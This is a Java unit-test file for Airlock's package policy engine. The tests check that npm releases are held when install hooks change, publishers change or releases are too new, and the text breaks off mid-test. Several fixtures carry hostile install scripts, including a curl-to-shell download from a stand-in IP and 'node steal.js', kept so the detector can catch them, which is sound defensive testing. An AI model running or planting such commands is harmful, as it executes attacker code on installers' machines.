package dev.airlock.core.policy;

import dev.airlock.config.InstallHooks;
import dev.airlock.config.PolicyConfig;
import dev.airlock.config.PolicyMode;
import dev.airlock.core.ecosystem.ReleaseFacts;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * The policy checks as a pure function: npm-shaped release histories (versions in upstream publish
 * order, publish times, {@code _npmUser}, maintainers, install scripts, dependencies), what Airlock
 * observed, and a fixed clock.
 */
class PolicyEngineTest {

    private static final Instant NOW = Instant.parse("2026-03-10T12:00:00Z");
    private static final Instant LONG_AGO = NOW.minus(Duration.ofDays(400));
    private static final Duration AGE = Duration.ofHours(72);
    private static final String PREINSTALL = "node preinstall.js";

    // ---------------------------------------------------------------- fixtures

    /** A PolicyConfig built field by field; every test starts from the defaults it names. */
    private static final class Cfg {
        Duration minimumReleaseAge = AGE;
        InstallHooks installHooks = InstallHooks.NEW;
        boolean publisherChange = true;
        boolean provenanceRegression = false;
        List<String> internal = List.of();
        List<String> allow = List.of();
        List<String> deny = List.of();

        Cfg age(Duration d) {
            minimumReleaseAge = d;
            return this;
        }

        Cfg hooks(InstallHooks h) {
            installHooks = h;
            return this;
        }

        Cfg publisherChange(boolean b) {
            publisherChange = b;
            return this;
        }

        Cfg internal(String... globs) {
            internal = List.of(globs);
            return this;
        }

        Cfg allow(String... specs) {
            allow = List.of(specs);
            return this;
        }

        Cfg deny(String... specs) {
            deny = List.of(specs);
            return this;
        }

        PolicyConfig build() {
            return new PolicyConfig(PolicyMode.ENFORCE, minimumReleaseAge, installHooks, publisherChange, provenanceRegression,
                    internal, allow, deny);
        }

        PolicyEngine engine() {
            return new PolicyEngine(build(), false);
        }

        PolicyEngine engine(boolean holdUnknownAge) {
            return new PolicyEngine(build(), holdUnknownAge);
        }
    }

    private static Cfg cfg() {
        return new Cfg();
    }

    /** One npm release: version, publish time, {@code _npmUser}, maintainers, scripts, dependencies. */
    private static ReleaseFacts release(String version, Instant publishedAt, String publisher, Set<String> maintainers,
                                       Map<String, String> hooks, Map<String, String> dependencies) {
        return new ReleaseFacts(version, publishedAt, publisher, maintainers, hooks, dependencies);
    }

    /** An ordinary release by the usual maintainer, long ago, with the given install scripts. */
    private static ReleaseFacts plain(String version, int daysAgo, Map<String, String> hooks) {
        return release(version, NOW.minus(Duration.ofDays(daysAgo)), "faisalman", Set.of("faisalman"), hooks,
                Map.of("ms", "^2.1.3"));
    }

    private static Map<String, String> preinstall(String script) {
        return Map.of("preinstall", script);
    }

    private static List<Evaluation> run(PolicyEngine engine, List<ReleaseFacts> history) {
        return engine.evaluate("npm", "ua-parser-js", history, Map.of(), NOW);
    }

    private static Evaluation byVersion(List<Evaluation> evaluations, String version) {
        return evaluations.stream().filter(e -> e.version().equals(version)).findFirst()
                .orElseThrow(() -> new AssertionError("no evaluation for " + version + " in " + evaluations));
    }

    private static Evaluation single(PolicyEngine engine, String ecosystem, String name, ReleaseFacts release) {
        List<Evaluation> out = engine.evaluate(ecosystem, name, List.of(release), Map.of(), NOW);
        assertEquals(1, out.size());
        return out.get(0);
    }

    private static List<Finding> findings(Evaluation e, String check) {
        return e.findings().stream().filter(f -> f.check().equals(check)).toList();
    }

    private static Finding onlyFinding(Evaluation e, String check) {
        List<Finding> found = findings(e, check);
        assertEquals(1, found.size(), () -> "one " + check + " finding expected in " + e.findings());
        return found.get(0);
    }

    private static List<String> holdingChecks(Evaluation e) {
        return e.findings().stream().filter(Finding::holds).map(Finding::check).sorted().toList();
    }

    private static void assertApprovedWithoutFindings(Evaluation e) {
        assertEquals(Verdict.APPROVED, e.verdict(), () -> e.version() + ": " + e.findings());
        assertEquals(List.of(), e.findings(), e.version());
        assertNull(e.heldUntil());
        assertTrue(e.visibleAt(NOW));
    }

    private static void assertHeldIndefinitely(Evaluation e) {
        assertEquals(Verdict.QUARANTINED, e.verdict(), () -> e.version() + ": " + e.findings());
        assertNull(e.heldUntil(), "not released by time alone");
        assertFalse(e.visibleAt(NOW));
        assertFalse(e.visibleAt(NOW.plus(Duration.ofDays(3650))));
    }

    // ---------------------------------------------------------------- install hooks

    @Nested
    class InstallHooksNew {

        @Test
        void versionAddingPreinstallIsHeldAndThePreviousOneApproved() {
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("0.7.28", 200, Map.of()),
                    plain("0.7.29", 100, preinstall(PREINSTALL)),
                    plain("0.7.30", 50, Map.of())));

            assertEquals(List.of("0.7.28", "0.7.29", "0.7.30"), out.stream().map(Evaluation::version).toList());
            assertApprovedWithoutFindings(out.get(0));
            Evaluation added = out.get(1);
            assertHeldIndefinitely(added);
            assertEquals(List.of("install-hooks"), holdingChecks(added));
            Finding f = onlyFinding(added, "install-hooks");
            assertTrue(f.holds());
            assertEquals(Map.of("hook", "preinstall", "script", PREINSTALL, "previousVersion", "0.7.28"), f.evidence());
            assertTrue(f.message().contains("preinstall") && f.message().contains(PREINSTALL), f.message());
            assertApprovedWithoutFindings(out.get(2));
        }

        @Test
        void sameScriptAsThePreviousVersionIsOnlyANote() {
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("1.0.0", 300, Map.of()),
                    plain("1.0.1", 200, preinstall(PREINSTALL)),
                    plain("1.0.2", 100, preinstall(PREINSTALL))));

            assertEquals(Verdict.QUARANTINED, out.get(1).verdict());
            Evaluation same = out.get(2);
            assertEquals(Verdict.APPROVED, same.verdict());
            assertTrue(same.visibleAt(NOW));
            Finding f = onlyFinding(same, "install-hooks");
            assertFalse(f.holds());
            assertEquals(Map.of("hook", "preinstall", "script", PREINSTALL, "previousVersion", "1.0.1"), f.evidence());
            assertEquals(1, same.findings().size(), same.findings()::toString);
        }

        @Test
        void changedScriptTextIsHeldWithThePreviousScriptAsEvidence() {
            String evil = "node preinstall.js && curl -s https://203.0.113.7/x.sh | sh";
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("2.3.0", 300, Map.of()),
                    plain("2.3.1", 200, Map.of("install", "node-gyp rebuild")),
                    plain("2.3.2", 100, Map.of("install", "node-gyp rebuild")),
                    plain("2.3.3", 10, Map.of("install", evil))));

            assertEquals(Verdict.APPROVED, out.get(2).verdict());
            Evaluation changed = out.get(3);
            assertHeldIndefinitely(changed);
            Finding f = onlyFinding(changed, "install-hooks");
            assertTrue(f.holds());
            assertEquals(Map.of("hook", "install", "script", evil, "previousScript", "node-gyp rebuild", "previousVersion", "2.3.2"),
                    f.evidence());
        }

        @Test
        void firstVersionOfAPackageWithAHookIsHeld() {
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("0.0.1", 30, Map.of("postinstall", "node install.js")),
                    plain("0.0.2", 20, Map.of("postinstall", "node install.js"))));

            Evaluation first = out.get(0);
            assertHeldIndefinitely(first);
            Finding f = onlyFinding(first, "install-hooks");
            assertTrue(f.holds());
            assertEquals(Map.of("hook", "postinstall", "script", "node install.js"), f.evidence(), "no previous version to name");
            assertEquals(Verdict.APPROVED, out.get(1).verdict());
        }

        @Test
        void previousMeansPreviousInPublishOrderNotInVersionOrder() {
            // 2.0.0 dropped the script; the 1.x backport published after it brings it back. Its
            // predecessor is 2.0.0 (the list order), not 1.0.0 (the semver predecessor).
            List<Evaluation> readded = run(cfg().engine(), List.of(
                    plain("1.0.0", 300, preinstall(PREINSTALL)),
                    plain("2.0.0", 200, Map.of()),
                    plain("1.0.1", 100, preinstall(PREINSTALL))));
            Evaluation backport = byVersion(readded, "1.0.1");
            assertEquals(Verdict.QUARANTINED, backport.verdict());
            assertEquals("2.0.0", onlyFinding(backport, "install-hooks").evidence().get("previousVersion"));

            // And the other way round: the backport keeps the script 2.0.0 introduced.
            List<Evaluation> kept = run(cfg().engine(), List.of(
                    plain("1.0.0", 300, Map.of()),
                    plain("2.0.0", 200, preinstall(PREINSTALL)),
                    plain("1.0.1", 100, preinstall(PREINSTALL))));
            assertEquals(Verdict.QUARANTINED, byVersion(kept, "2.0.0").verdict());
            Evaluation backport2 = byVersion(kept, "1.0.1");
            assertEquals(Verdict.APPROVED, backport2.verdict());
            assertFalse(onlyFinding(backport2, "install-hooks").holds());
        }

        @Test
        void eachHookIsJudgedOnItsOwn() {
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("5.0.0", 100, Map.of("install", "node-gyp rebuild")),
                    plain("5.0.1", 10, Map.of("install", "node-gyp rebuild", "postinstall", "node telemetry.js"))));

            Evaluation e = out.get(1);
            assertEquals(Verdict.QUARANTINED, e.verdict());
            List<Finding> hooks = findings(e, "install-hooks");
            assertEquals(2, hooks.size());
            Map<String, Boolean> holdsByHook = new HashMap<>();
            hooks.forEach(f -> holdsByHook.put(f.evidence().get("hook"), f.holds()));
            assertEquals(Map.of("install", false, "postinstall", true), holdsByHook);
        }

        @Test
        void unknownScriptsOfThePreviousVersionAreNotAChange() {
            // The previous version's document does not state its scripts (null): a note, no hold.
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("3.0.0", 200, null),
                    plain("3.0.1", 100, preinstall(PREINSTALL))));

            assertApprovedWithoutFindings(out.get(0));
            Evaluation e = out.get(1);
            assertEquals(Verdict.APPROVED, e.verdict());
            Finding f = onlyFinding(e, "install-hooks");
            assertFalse(f.holds());
            assertEquals(Map.of("hook", "preinstall", "script", PREINSTALL, "previousVersion", "3.0.0"), f.evidence());
            assertTrue(f.message().contains("unknown"), f.message());
        }

        @Test
        void unknownScriptsOfTheReleaseItselfGiveNoFinding() {
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("3.0.0", 200, preinstall(PREINSTALL)),
                    plain("3.0.1", 100, null),
                    plain("3.0.2", 50, Map.of())));

            assertEquals(Verdict.QUARANTINED, out.get(0).verdict(), "first version with a hook");
            assertApprovedWithoutFindings(out.get(1));
            assertApprovedWithoutFindings(out.get(2));

            // Not even when every release with scripts is held.
            List<Evaluation> all = run(cfg().hooks(InstallHooks.ALL).engine(), List.of(
                    plain("3.0.0", 200, preinstall(PREINSTALL)),
                    plain("3.0.1", 100, null)));
            assertApprovedWithoutFindings(all.get(1));
        }

        @Test
        void emptyScriptsOfThePreviousVersionAreKnownAndMakeTheHookNew() {
            // {} is "declares none" (known), unlike null (unknown).
            List<Evaluation> out = run(cfg().engine(), List.of(
                    plain("3.0.0", 200, Map.of()),
                    plain("3.0.1", 100, preinstall(PREINSTALL))));
            assertEquals(Verdict.QUARANTINED, out.get(1).verdict());
        }
    }

    @Nested
    class NativeBuildCommands {

        private final String prePyp = "node-pre-gyp install --fallback-to-build";

        @Test
        void movingBetweenWellKnownNativeBuildCommandsIsANoteUnderNewAndAHoldUnderStrict() {
            // bcrypt 6.0.0 moved from node-pre-gyp to node-gyp-build.
            List<ReleaseFacts> history = List.of(
                    plain("5.1.1", 200, Map.of("install", prePyp)),
                    plain("6.0.0", 100, Map.of("install", "node-gyp-build")));
            Evaluation moved = run(cfg().engine(), history).get(1);
            assertEquals(Verdict.APPROVED, moved.verdict(), moved.findings()::toString);
            Finding f = onlyFinding(moved, "install-hooks");
            assertFalse(f.holds());
            assertTrue(f.message().contains("one well-known native-build command for another"), f.message());
            assertEquals(prePyp, f.evidence().get("previousScript"));

            Evaluation strict = run(cfg().hooks(InstallHooks.STRICT).engine(), history).get(1);
            assertHeldIndefinitely(strict);
            assertTrue(onlyFinding(strict, "install-hooks").holds());
        }

        @Test
        void theCommandsAreMatchedWholeSoAnythingAddedIsAChange() {
            for (String changed : List.of("node-gyp rebuild && curl -s https://203.0.113.7/x.sh | sh",
                    "node-gyp-build; node steal.js", "prebuild-install || node install.js", "node install.js")) {
                Evaluation e = run(cfg().engine(), List.of(
                        plain("1.0.0", 200, Map.of("install", "prebuild-install -r napi || node-gyp rebuild")),
                        plain("1.0.1", 100, Map.of("install", changed)))).get(1);
                assertHeldIndefinitely(e);
                assertFalse(onlyFinding(e, "install-hooks").message().contains("well-known"), changed);
            }
            assertTrue(NativeBuilds.isKnown("prebuild-install  -r napi ||  node-gyp rebuild"));
            assertTrue(NativeBuilds.isKnown("node-gyp rebuild (implicit: binding.gyp)"));
            assertTrue(NativeBuilds.isKnown("cmake-js compile"));
            assertFalse(NativeBuilds.isKnown("node-gyp rebuild --nodedir=/tmp/x"));
        }

        @Test
        void addingAHookWhereThereWasNoneStillHolds() {
            Evaluation e = run(cfg().engine(), List.of(
                    plain("5.1.1", 200, Map.of()),
                    plain("6.0.0", 100, Map.of("install", "node-gyp-build")))).get(1);
            assertHeldIndefinitely(e);
            assertTrue(onlyFinding(e, "install-hooks").message().startsWith("adds an install script"), e.findings()::toString);
        }
    }

    /**
     * Which release another is compared with: the highest lower version published before it, in
     * the ecosystem's order, pre-releases passed over for a final release, and version order alone
     * where times are missing or say nothing sensible.
     */
    @Nested
    class PreviousVersion {

        /** Dotted numbers; a "-" suffix is a pre-release, below its release. Enough semver for these cases. */
        private static final dev.airlock.core.ecosystem.VersionOrder DOTTED = new dev.airlock.core.ecosystem.VersionOrder() {
            @Override
            public boolean preRelease(String version) {
                return version.contains("-");
            }

            @Override
            public int compare(String a, String b) {
                String[] x = a.split("-", 2);
                String[] y = b.split("-", 2);
                String[] xa = x[0].split("\\.");
                String[] ya = y[0].split("\\.");
                for (int i = 0; i < Math.max(xa.length, ya.length); i++) {
                    int c = Long.compare(i < xa.length ? Long.parseLong(xa[i]) : 0, i < ya.length ? Long.parseLong(ya[i]) : 0);
                    if (c != 0) {
                        return c;
                    }
                }
                if (x.length != y.length) {
                    return x.length == 1 ? 1 : -1;
                }
                return x.length == 1 ? 0 : x[1].compareTo(y[1]);
            }
        };

        private Map<String, String> previousOf(List<ReleaseFacts> history) {
            ReleaseFacts[] p = PolicyEngine.previous(history, DOTTED);
            Map<String, String> out = new LinkedHashMap<>();
            for (int i = 0; i < history.size(); i++) {
                out.put(history.get(i).version(), p[i] == null ? null : p[i].version());
            }
            return out;
        }

        /** A release published that many days ago, or at an unknown time (null). */
        private ReleaseFacts at(String version, Integer daysAgo) {
            return new ReleaseFacts(version, daysAgo == null ? null : NOW.minus(Duration.ofDays(daysAgo)), null, null, Map.of(), Map.of());
        }

        @Test
        void aBackportIsNotThePreviousVersionOfTheNewerLine() {
            // Publish order: 1.0.0, 2.0.0, then 1.0.1 (a fix backported to 1.x), then 2.0.1.
            Map<String, String> p = previousOf(List.of(at("1.0.0", 300), at("2.0.0", 200), at("1.0.1", 100), at("2.0.1", 50)));
            assertEquals("1.0.0", p.get("2.0.0"));
            assertEquals("1.0.0", p.get("1.0.1"));
            assertEquals("2.0.0", p.get("2.0.1"));
            assertNull(p.get("1.0.0"));
        }

        @Test
        void aLowerVersionPublishedLaterIsNotWhatAReleaseUpgradedFrom() {
            // 1.5.0 was backported to 1.x after 2.0.0 came out: 2.0.0 upgraded from 1.4.0.
            Map<String, String> p = previousOf(List.of(at("1.4.0", 300), at("2.0.0", 200), at("1.5.0", 100)));
            assertEquals("1.4.0", p.get("2.0.0"));
            assertEquals("1.4.0", p.get("1.5.0"));
        }

        @Test
        void aFinalReleasePassesOverPreReleases() {
            // core-js on the mirror: 3.0.0-beta.20 and 4.0.0-alpha.0 carry times just before 3.51.0.
            Map<String, String> p = previousOf(List.of(at("3.0.0-beta.20", 400), at("3.49.0", 300), at("3.50.0", 200),
                    at("3.51.0-rc.1", 60), at("4.0.0-alpha.0", 51), at("3.51.0", 50)));
            assertEquals("3.50.0", p.get("3.51.0"));
            // A pre-release is compared with whatever is just below it.
            assertEquals("3.50.0", p.get("3.51.0-rc.1"));
            assertEquals("3.51.0-rc.1", p.get("4.0.0-alpha.0"));
            // With only pre-releases below, a final release is compared with the highest of them.
            assertEquals("1.0.0-rc.2", previousOf(List.of(at("1.0.0-rc.1", 30), at("1.0.0-rc.2", 20), at("1.0.0", 10))).get("1.0.0"));
        }

        @Test
        void timesThatContradictVersionOrderLeaveItToVersionOrder() {
            // cpu-features on the mirror: 0.0.10 carries a time before every lower version.
            Map<String, String> p = previousOf(List.of(at("0.0.10", 300), at("0.0.8", 200), at("0.0.9", 100)));
            assertEquals("0.0.9", p.get("0.0.10"));
            // aws-sdk: publish order alone put 2.2.4 right before 2.1693.0; the highest lower published before wins.
            Map<String, String> aws = previousOf(List.of(at("2.1692.0", 500), at("2.1691.0", 400), at("2.2.4", 200), at("2.1693.0", 100)));
            assertEquals("2.1692.0", aws.get("2.1693.0"));
        }

        @Test
        void missingTimesLeaveItToVersionOrder() {
            Map<String, String> none = previousOf(List.of(at("2.0.0", null), at("1.0.0", null), at("1.1.0", null)));
            assertEquals("1.1.0", none.get("2.0.0"));
            assertEquals("1.0.0", none.get("1.1.0"));
            // One side unknown: the lower version without a time is not passed over for an older one.
            Map<String, String> some = previousOf(List.of(at("1.0.0", 300), at("1.1.0", null), at("1.2.0", 100), at("1.3.0", null)));
            assertEquals("1.1.0", some.get("1.2.0"));
            assertEquals("1.2.0", some.get("1.3.0"));
        }

        @Test
        void theEngineJudgesHooksAgainstThatVersion() {
            // cpu-features: 0.0.10 is not "the first version" because its time is the oldest.
            List<ReleaseFacts> history = List.of(
                    plain("0.0.10", 300, Map.of("install", "node-gyp rebuild")),
                    plain("0.0.9", 200, Map.of("install", "node-gyp rebuild")));
            Evaluation e = cfg().engine().evaluate("npm", "cpu-features", history, Map.of(), Map.of(), d -> null, DOTTED, NOW).get(0);
            assertEquals(Verdict.APPROVED, e.verdict(), e.findings()::toString);
            assertEquals("0.0.9", onlyFinding(e, "install-hooks").evidence().get("previousVersion"));
        }
    }

    @Test
    void installHooksAllHoldsEveryVersionWithAHook() {
        List<Evaluation> out = run(cfg().hooks(InstallHooks.ALL).engine(), List.of(
                plain("1.0.0", 300, Map.of()),
                plain("1.0.1", 200, preinstall(PREINSTALL)),
                plain("1.0.2", 100, preinstall(PREINSTALL)),
                plain("1.0.3", 90, null),
                plain("1.0.4", 80, preinstall(PREINSTALL)),
                plain("1.0.5", 70, Map.of())));

        assertApprovedWithoutFindings(out.get(0));
        for (String v : List.of("1.0.1", "1.0.2", "1.0.4")) {
            Evaluation e = byVersion(out, v);
            assertHeldIndefinitely(e);
            assertEquals(List.of("install-hooks"), holdingChecks(e), v);
        }
        assertApprovedWithoutFindings(byVersion(out, "1.0.3"));
        assertApprovedWithoutFindings(byVersion(out, "1.0.5"));
    }

    @Test
    void installHooksOffOnlyRecordsNotes() {
        List<Evaluation> out = run(cfg().hooks(InstallHooks.OFF).engine(), List.of(
                plain("1.0.0", 300, preinstall(PREINSTALL)),
                plain("1.0.1", 200, Map.of()),
                plain("1.0.2", 100, preinstall(PREINSTALL)),
                plain("1.0.3", 50, preinstall("node evil.js"))));

        for (Evaluation e : out) {
            assertEquals(Verdict.APPROVED, e.verdict(), e.version());
            assertTrue(e.visibleAt(NOW));
        }
        for (String v : List.of("1.0.0", "1.0.2", "1.0.3")) {
            Finding f = onlyFinding(byVersion(out, v), "install-hooks");
            assertFalse(f.holds(), v);
        }
        assertEquals("preinstall", onlyFinding(byVersion(out, "1.0.3"), "install-hooks").evidence().get("hook"));
        assertEquals(PREINSTALL, onlyFinding(byVersion(out, "1.0.3"), "install-hooks").evidence().get("previousScript"));
        assertApprovedWithoutFindings(byVersion(out, "1.0.1"));
    }

    // ---------------------------------------------------------------- publisher

    @Nested
    class Publisher {

        private List<ReleaseFacts> takeover() {
            Set<String> team = Set.of("jdalton", "mathias");
            return List.of(
                    release("4.17.20", NOW.minus(Duration.ofDays(300)), "jdalton", team, Map.of(), Map.of()),
                    release("4.17.21", NOW.minus(Duration.ofDays(200)), "jdalton", team, Map.of(), Map.of()),
                    release("4.17.22", NOW.minus(Duration.ofDays(10)), "mallory", team, Map.of(), Map.of()),
                    release("4.17.23", NOW.minus(Duration.ofDays(9)), "mallory", team, Map.of(), Map.of()));
        }

        @Test
        void aDifferentPublisherIsHeldWhenPublisherChangeIsOn() {
            List<Evaluation> out = cfg().publisherChange(true).engine().evaluate("npm", "lodash", takeover(), Map.of(), NOW);

            assertApprovedWithoutFindings(out.get(0));
            assertApprovedWithoutFindings(out.get(1));
            Evaluation e = out.get(2);
            assertHeldIndefinitely(e);
            Finding f = onlyFinding(e, "publisher");
            assertTrue(f.holds());
            assertEquals(Map.of("publisher", "mallory", "previousPublisher", "jdalton", "previousVersion", "4.17.21"), f.evidence());
            assertEquals(1, e.findings().size());
            assertApprovedWithoutFindings(out.get(3)); // same publisher as its previous version
        }

        @Test
        void aDifferentPublisherIsANoteWhenPublisherChangeIsOff() {
            List<Evaluation> out = cfg().publisherChange(false).engine().evaluate("npm", "lodash", takeover(), Map.of(), NOW);

            Evaluation e = out.get(2);
            assertEquals(Verdict.APPROVED, e.verdict());
            Finding f = onlyFinding(e, "publisher");
            assertFalse(f.holds());
            assertEquals("mallory", f.evidence().get("publisher"));
            assertEquals("jdalton", f.evidence().get("previousPublisher"));
        }

        @Test
        void anUnknownPublisherOnEitherSideIsNoChange() {
            Set<String> m = Set.of("sindresorhus");
            List<Evaluation> out = cfg().publisherChange(true).engine().evaluate("npm", "chalk", List.of(
                    release("5.3.0", LONG_AGO, "sindresorhus", m, Map.of(), Map.of()),
                    release("5.4.0", LONG_AGO.plusSeconds(60), null, m, Map.of(), Map.of()),
                    release("5.4.1", LONG_AGO.plusSeconds(120), "mallory", m, Map.of(), Map.of())), Map.of(), NOW);

            assertApprovedWithoutFindings(out.get(0));
            assertApprovedWithoutFindings(out.get(1));
            assertApprovedWithoutFindings(out.get(2));
        }

        @Test
        void newMaintainersAreOnlyANote() {
            List<Evaluation> out = cfg().publisherChange(true).engine().evaluate("npm", "event-stream", List.of(
                    release("3.3.4", LONG_AGO, "dominictarr", Set.of("dominictarr"), Map.of(), Map.of("through", "~2.3.1")),
                    release("3.3.5", LONG_AGO.plusSeconds(86_400), "dominictarr", Set.of("dominictarr", "right9ctrl"), Map.of(),
                            Map.of("through", "~2.3.1", "flatmap-stream", "^0.1.0")),
                    release("3.3.6", LONG_AGO.plusSeconds(2 * 86_400), "dominictarr", Set.of("right9ctrl"), Map.of(),
                            Map.of("through", "~2.3.1")),
                    release("3.3.7", LONG_AGO.plusSeconds(3 * 86_400), "dominictarr", null, Map.of(), Map.of())), Map.of(), NOW);

            Evaluation added = out.get(1);
            assertEquals(Verdict.APPROVED, added.verdict());
            Finding f = onlyFinding(added, "publisher");
            assertFalse(f.holds());
            assertEquals(Map.of("added", "right9ctrl", "previousVersion", "3.3.4"), f.evidence());
            assertApprovedWithoutFindings(out.get(2)); // a maintainer removed: nothing to say
            assertApprovedWithoutFindings(out.get(3)); // maintainers unknown
        }
    }

    // ---------------------------------------------------------------- age

    @Nested
    class Age {

        @Test
        void aReleasePublishedAnHourAgoIsHeldUntilItComesOfAge() {
            Instant published = NOW.minus(Duration.ofHours(1));
            List<Evaluation> out = run(cfg().age(AGE).engine(), List.of(
                    plain("1.2.0", 30, Map.of()),
                    release("1.2.1", published, "faisalman", Set.of("faisalman"), Map.of(), Map.of("ms", "^2.1.3"))));

            assertApprovedWithoutFindings(out.get(0));
            Evaluation e = out.get(1);
            assertEquals(Verdict.QUARANTINED, e.verdict());
            Instant heldUntil = published.plus(AGE);
            assertEquals(heldUntil, e.heldUntil());
            assertEquals(List.of("age"), e.findings().stream().map(Finding::check).toList());
            Finding f = e.findings().get(0);
            assertTrue(f.holds());
            assertEquals(heldUntil.toString(), f.evidence().get("releasedAt"));
            assertEquals(published.toString(), f.evidence().get("publishedAt"));
            assertEquals(AGE.toString(), f.evidence().get("minimumReleaseAge"));
            assertEquals(Duration.ofHours(1).toString(), f.evidence().get("age"));
            assertFalse(e.visibleAt(NOW));
            assertFalse(e.visibleAt(heldUntil.minusMillis(1)));
            assertTrue(e.visibleAt(heldUntil));
            assertTrue(e.visibleAt(heldUntil.plus(Duration.ofDays(1))));
        }

        @Test
        void anOldReleaseIsApproved() {
            List<Evaluation> out = run(cfg().age(AGE).engine(), List.of(
                    release("1.0.0", NOW.minus(Duration.ofHours(73)), "faisalman", null, Map.of(), Map.of()),
                    release("1.0.1", NOW.minus(AGE), "faisalman", null, Map.of(), Map.of()),
                    release("1.0.2", NOW.minus(AGE).plusMillis(1), "faisalman", null, Map.of(), Map.of())));

            assertApprovedWithoutFindings(out.get(0));
            assertApprovedWithoutFindings(out.get(1)); // exactly of age
            assertEquals(Verdict.QUARANTINED, out.get(2).verdict());
            assertEquals(NOW.plusMillis(1), out.get(2).heldUntil());
        }

        @Test
        void zeroMinimumAgeTurnsTheRuleOff() {
            List<ReleaseFacts> history = List.of(
                    release("1.0.0", NOW.minusSeconds(5), "faisalman", null, Map.of(), Map.of()),
                    release("1.0.1", null, "faisalman", null, Map.of(), Map.of()));
            List<Evaluation> out = cfg().age(Duration.ZERO).engine(true).evaluate("npm", "ua-parser-js", history,
                    Map.of("1.0.0", NOW.minus(Duration.ofDays(1)), "1.0.1", NOW.minusSeconds(1)), NOW);
            assertApprovedWithoutFindings(out.get(0));
            assertApprovedWithoutFindings(out.get(1));

            // The same history is held with the rule on.
            List<Evaluation> on = cfg().age(AGE).engine(true).evaluate("npm", "ua-parser-js", history,
                    Map.of("1.0.0", NOW.minus(Duration.ofDays(1)), "1.0.1", NOW.minusSeconds(1)), NOW);
            assertEquals(Verdict.QUARANTINED, on.get(0).verdict());
            assertEquals(Verdict.QUARANTINED, on.get(1).verdict());
        }

        @Test
        void unknownPublishTimeWithoutObservationIsApprovedUnlessUnknownAgeIsHeld() {
            List<ReleaseFacts> history = List.of(release("0.1.0", null, "someone", null, Map.of(), Map.of()));

            assertApprovedWithoutFindings(cfg().age(AGE).engine(false).evaluate("npm", "tiny", history, Map.of(), NOW).get(0));

            Evaluation held = cfg().age(AGE).engine(true).evaluate("npm", "tiny", history, Map.of(), NOW).get(0);
            assertHeldIndefinitely(held);
            assertEquals(List.of("age"), held.findings().stream().map(Finding::check).toList());
            assertTrue(held.findings().get(0).holds());
        }

        @Test
        void unknownPublishTimePresentAtTheFirstSightingIsOfUnknownAge() {
            Instant firstSeen = NOW.minus(Duration.ofDays(30));
            List<ReleaseFacts> history = List.of(release("0.1.0", null, "someone", null, Map.of(), Map.of()));
            Map<String, Instant> observed = Map.of("0.1.0", firstSeen);

            assertApprovedWithoutFindings(cfg().engine(false).evaluate("npm", "tiny", history, observed, NOW).get(0));
            assertHeldIndefinitely(cfg().engine(true).evaluate("npm", "tiny", history, observed, NOW).get(0));
        }

        @Test
        void aVersionThatAppearedLaterIsNoOlderThanItsFirstSighting() {
            Instant packageFirstSeen = NOW.minus(Duration.ofDays(30));
            Instant sighting = NOW.minus(Duration.ofHours(1));
            Instant backdated = NOW.minus(Duration.ofDays(365));
            List<ReleaseFacts> history = List.of(
                    release("1.0.0", NOW.minus(Duration.ofDays(400)), "faisalman", null, Map.of(), Map.of()),
                    release("1.0.1", NOW.minus(Duration.ofDays(380)), "faisalman", null, Map.of(), Map.of()),
                    release("1.0.2", backdated, "faisalman", null, Map.of(), Map.of()));
            Map<String, Instant> observed = Map.of("1.0.0", packageFirstSeen, "1.0.1", packageFirstSeen, "1.0.2", sighting);

            List<Evaluation> out = cfg().age(AGE).engine().evaluate("npm", "ua-parser-js", history, observed, NOW);

            assertApprovedWithoutFindings(out.get(0));
            assertApprovedWithoutFindings(out.get(1));
            Evaluation e = out.get(2);
            assertEquals(Verdict.QUARANTINED, e.verdict());
            assertEquals(sighting.plus(AGE), e.heldUntil());
            Finding f = onlyFinding(e, "age");
            assertTrue(f.holds());
            assertEquals(backdated.toString(), f.evidence().get("publishedAt"));
            assertEquals(sighting.toString(), f.evidence().get("firstSeenByAirlock"));
            assertEquals(sighting.plus(AGE).toString(), f.evidence().get("releasedAt"));
            assertEquals(1, e.findings().size());
            assertFalse(e.visibleAt(NOW));
            assertTrue(e.visibleAt(sighting.plus(AGE)));

            // Without the observations upstream's (backdated) time would have been believed.
            assertApprovedWithoutFindings(cfg().age(AGE).engine().evaluate("npm", "ua-parser-js", history, Map.of(), NOW).get(2));
        }

        @Test
        void aVersionPresentAtTheFirstSightingUsesUpstreamsTime() {
            // Airlock first saw the package ten minutes ago, with both versions already listed.
            Instant firstSeen = NOW.minus(Duration.ofMinutes(10));
            Instant recent = NOW.minus(Duration.ofHours(2));
            List<ReleaseFacts> history = List.of(
                    release("2.0.0", NOW.minus(Duration.ofDays(365)), "faisalman", null, Map.of(), Map.of()),
                    release("2.0.1", recent, "faisalman", null, Map.of(), Map.of()));
            Map<String, Instant> observed = Map.of("2.0.0", firstSeen, "2.0.1", firstSeen);

            List<Evaluation> out = cfg().age(AGE).engine().evaluate("npm", "ua-parser-js", history, observed, NOW);

            assertApprovedWithoutFindings(out.get(0));
            assertEquals(Verdict.QUARANTINED, out.get(1).verdict());
            assertEquals(recent.plus(AGE), out.get(1).heldUntil(), "from upstream's time, not from the first sighting");
        }

        @Test
        void aVersionThatAppearedLaterWithoutPublishTimeCountsFromItsSighting() {
            Instant packageFirstSeen = NOW.minus(Duration.ofDays(30));
            Instant sighting = NOW.minus(Duration.ofHours(5));
            List<ReleaseFacts> history = List.of(
                    release("1.0.0", LONG_AGO, "faisalman", null, Map.of(), Map.of()),
                    release("1.1.0", null, "faisalman", null, Map.of(), Map.of()));
